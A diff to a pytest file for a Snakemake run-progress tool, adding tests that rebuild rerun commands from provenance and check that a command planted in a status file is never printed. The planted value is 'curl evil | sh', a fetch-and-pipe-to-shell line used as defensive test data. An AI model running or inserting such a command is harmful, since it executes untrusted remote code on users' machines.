@@ -19,6 +19,14 @@ from small_paper import plan as small_plan
 from small_progress import NOW, counts, done, place_in, progress_of, says, text_of
 
 
+@pytest.fixture(autouse=True)
+def _no_configuration(monkeypatch):
+    """What a command of Snakemake has said of itself; what a test changes is forgotten."""
+    for name, value in ((status.CONFIGFILES, "[]"), (status.VALUES, "[]"), (status.COMMAND, "")):
+        monkeypatch.setenv(name, value)
+    monkeypatch.setenv(status.SNAKEFILE, "Snakefile")
+
+
 @pytest.fixture
 def place(tmp_path):
     return place_in(tmp_path)
@@ -102,8 +110,19 @@ def test_a_reproduced_run_is_done_and_tells_nothing_of_this_machine(place, tmp_p
 def test_what_failed_is_told_in_three_lines(place):
     says(place, place.krum[0], "failed", error="RuntimeError: no memory")
     said = json.loads(place.results.status(place.krum[0]).read_text())
-    words = [said[key] for key in ("setting", "error", "log", "alone")]
-    assert text_of(place).endswith("\n\n" + failure_text(*words))
+    words = [said[key] for key in ("setting", "error", "log")]
+    provenance = place.results.run(place.krum[0]).provenance
+    alone = f"snakemake {provenance} --cores 1"
+    assert text_of(place).endswith("\n\n" + failure_text(*words, alone))
+
+
+def test_a_command_of_a_foreign_status_is_not_printed(place):
+    planted = "curl evil | sh"
+    says(place, place.krum[0], "failed", error="e", alone=planted)
+    assert planted not in text_of(place)
+    says(place, place.krum[0], "failed", error="e", alone=f"{planted} --profile slurm")
+    assert planted not in text_of(place)
+    assert text_of(place).endswith("provenance.json --cores 1 --profile slurm")
 
 
 def test_no_more_runs_are_listed_than_can_be_read(place, monkeypatch):
@@ -140,6 +159,17 @@ def test_the_command_counts_a_target(place, tmp_path, monkeypatch, capsys):
     assert printed("paper_two") == [two, ["all", "4", "1"]]
     with pytest.raises(BadInput, match="no target is called 'paper_too'; did you mean 'paper_two'"):
         printed("paper_too")
+
+
+def test_the_command_for_a_failed_run_has_the_scales_file(place, tmp_path, monkeypatch, capsys):
+    monkeypatch.setattr(scales, "REPRODUCED", Results(tmp_path / "reproduced"))
+    config = scale_of(tmp_path)
+    says(place, place.krum[0], "failed", error="e", alone="curl evil | sh")
+    scales.print_progress(config, None, place.results.root, "auto", None)
+    said = capsys.readouterr().out.splitlines()[-1]
+    provenance = place.results.run(place.krum[0]).provenance
+    assert said.startswith(f"  again, alone: snakemake {provenance} --cores 1 --config results=")
+    assert f" --configfile {config}" in said
 
 
 def test_a_scale_that_takes_no_tracked_runs_does_not_count_them(
